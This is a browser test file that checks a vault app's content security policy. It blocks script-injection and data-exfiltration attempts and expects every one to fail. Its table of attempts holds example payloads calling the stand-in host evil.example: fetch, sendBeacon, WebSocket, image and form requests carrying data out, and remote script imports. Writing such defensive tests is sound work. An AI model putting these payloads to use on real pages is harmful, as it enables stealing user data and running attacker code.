import { existsSync } from 'node:fs'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { createVault, launchHeadless, openApp, type TestApp } from '../support/app.ts'

let browser: Browser
let app: TestApp
/** Where the window's requests went that were not refused before they left. */
const answered: string[] = []

beforeAll(async () => {
  browser = await launchHeadless()
  app = await openApp(browser)
  await createVault(app)
  // Before anything is tried: the app itself breaks none of these rules.
  expect(app.faults).toEqual([])
  app.preview.context.on('response', (response) => answered.push(response.url()))
})
afterAll(async () => {
  await app.close()
  await browser.close()
})
beforeEach(async () => {
  await app.page().goto('https://relais.invalid/')
  answered.length = 0
})

interface Outcome {
  /** Whether the attempt had its effect. */
  readonly got: boolean
  readonly directive: string
}

/**
 * Runs `attempt` as the page's own script would, in a task of its own, and waits for the browser to say which rule of
 * the policy it broke.
 */
const breaks = (page: Page, attempt: string): Promise<Outcome> =>
  page.evaluate(`new Promise((settle) => {
    globalThis.got = false
    const done = () => { globalThis.got = true; settle({ got: true, directive: 'none' }) }
    const add = (tag, properties) => document.body.appendChild(Object.assign(document.createElement(tag), properties))
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      setTimeout(() => settle({ got: globalThis.got, directive: effectiveDirective }))
    }, { once: true })
    setTimeout(async () => { ${attempt} })
  })`)

/** What a script that got into the page would try, and the rule that stops it. */
const attempts: [string, string, string][] = [
  ['eval', 'script-src', `(0, eval)('globalThis.got = true')`],
  ['new Function', 'script-src', `new Function('globalThis.got = true')()`],
  ['a timer with a text', 'script-src', `setTimeout('globalThis.got = true')`],
  [
    'WebAssembly',
    'script-src',
    `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); done()`,
  ],
  ['an inline script', 'script-src', `add('script', { textContent: 'globalThis.got = true' })`],
  [
    'a script from elsewhere',
    'script-src',
    `add('script', { src: 'https://evil.example/x.js', onload: done })`,
  ],
  ['a script from data', 'script-src', `add('script', { src: 'data:text/javascript,globalThis.got=true' })`],
  [
    'a script from a blob',
    'script-src',
    `add('script', { src: URL.createObjectURL(new Blob(['globalThis.got = true'])) })`,
  ],
  [
    'an inline handler',
    'script-src',
    `add('div').innerHTML = '<img src="data:," onerror="globalThis.got = true">'`,
  ],
  ['a javascript: link', 'script-src', `add('a', { href: 'javascript:globalThis.got=true' }).click()`],
  ['an import from elsewhere', 'script-src', `await import('https://evil.example/x.js'); done()`],
  ['an import from data', 'script-src', `await import('data:text/javascript,0'); done()`],
  ['fetch', 'connect-src', `await fetch('https://evil.example/?words'); done()`],
  ['fetch of the app itself', 'connect-src', `await fetch('/index.html'); done()`],
  [
    'XMLHttpRequest',
    'connect-src',
    `const x = new XMLHttpRequest(); x.onload = done; x.open('GET', 'https://evil.example/'); x.send()`,
  ],
  ['WebSocket', 'connect-src', `new WebSocket('wss://evil.example/').onopen = done`],
  ['EventSource', 'connect-src', `new EventSource('https://evil.example/').onopen = done`],
  ['sendBeacon', 'connect-src', `navigator.sendBeacon('https://evil.example/', 'words')`],
  [
    'a worker from a blob',
    'worker-src',
    `new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = done`,
  ],
  ['an image', 'img-src', `add('img', { src: 'https://evil.example/?words', onload: done })`],
  ['a font', 'font-src', `await new FontFace('x', 'url(https://evil.example/x.woff2)').load(); done()`],
  [
    'a style sheet',
    'style-src',
    `add('link', { rel: 'stylesheet', href: 'https://evil.example/x.css', onload: done })`,
  ],
  ['an inline style element', 'style-src', `add('style', { textContent: 'body { color: red }' })`],
  ['media', 'media-src', `add('video', { src: 'https://evil.example/x.mp4', onloadeddata: done })`],
  ['an object', 'object-src', `add('object', { data: 'https://evil.example/x.pdf', onload: done })`],
  ['a frame', 'frame-src', `add('iframe', { src: 'https://evil.example/' })`],
  ['a frame of the app itself', 'frame-src', `add('iframe', { src: '/index.html' })`],
  ['a form', 'form-action', `add('form', { action: 'https://evil.example/', method: 'post' }).submit()`],
  ['a base', 'base-uri', `add('base', { href: 'https://evil.example/' })`],
]

describe('a script that got into the page', () => {
  it.each(attempts)('gets nowhere with %s', async (_, rule, attempt) => {
    const { got, directive } = await breaks(app.page(), attempt)
    expect(got).toBe(false)
    expect(directive.startsWith(rule), `stopped by ${directive}`).toBe(true)
    expect(answered).toEqual([])
  })

  it('can’t leave a service worker behind', async () => {
    const registrations = await app.page().evaluate(async () => {
      await navigator.serviceWorker.register('/index.html').catch(() => undefined)
      return (await navigator.serviceWorker.getRegistrations()).length
    })
    expect(registrations).toBe(0)
    expect(app.preview.context.serviceWorkers()).toEqual([])
  })

  it('can’t save a file', async () => {
    const page = app.page()
    const downloading = page.waitForEvent('download')
    await page.evaluate(() => {
      const link = document.createElement('a')
      link.href = URL.createObjectURL(new Blob(['words']))
      link.download = 'words.txt'
      link.click()
    })
    expect(await (await downloading).failure()).not.toBeNull()
    expect(existsSync(app.savedFolder)).toBe(false)
  })

  it('can’t open another window that stays, nor speak from it', async () => {
    const page = app.page()
    for (const url of ['https://relais.invalid/', 'https://evil.example/?words', 'about:blank']) {
      const opening = page.waitForEvent('popup')
      await page.evaluate((target) => void window.open(target), url)
      const popup = await opening
      if (!popup.isClosed()) await popup.waitForEvent('close')
    }
    expect(answered.filter((url) => url.includes('evil'))).toEqual([])
  })

  it.each(['https://evil.example/?words', 'http://relais.invalid/', 'https://relais.invalid.evil.example/'])(
    'can’t take the window to %s',
    async (url) => {
      const page = app.page()
      const leaving = page.waitForEvent('requestfailed')
      await page.evaluate((target) => void location.assign(target), url).catch(() => undefined)
      expect((await leaving).url()).toBe(url)
      // The window stays where it was, with nothing in its place that could hide an open vault.
      expect(page.url()).toBe('https://relais.invalid/')
      expect(await app.call('app.state', {})).toMatchObject({ unlocked: true })
      expect(answered.filter((where) => !where.startsWith(url))).toEqual([])
    },
  )
})

describe('the app', () => {
  it('keeps nothing in the browser: no storage, database, cache or cookie', async () => {
    await app.call('drafts.put', {
      key: { caseId: crypto.randomUUID(), form: 'wishes' },
      body: '"mots"',
    })
    const kept = await app.page().evaluate(async () => ({
      local: { ...localStorage },
      session: { ...sessionStorage },
      databases: (await indexedDB.databases()).length,
      caches: (await caches.keys()).length,
      cookies: document.cookie,
    }))
    expect(kept).toEqual({ local: {}, session: {}, databases: 0, caches: 0, cookies: '' })
    expect(await app.preview.context.cookies()).toEqual([])
  })
})
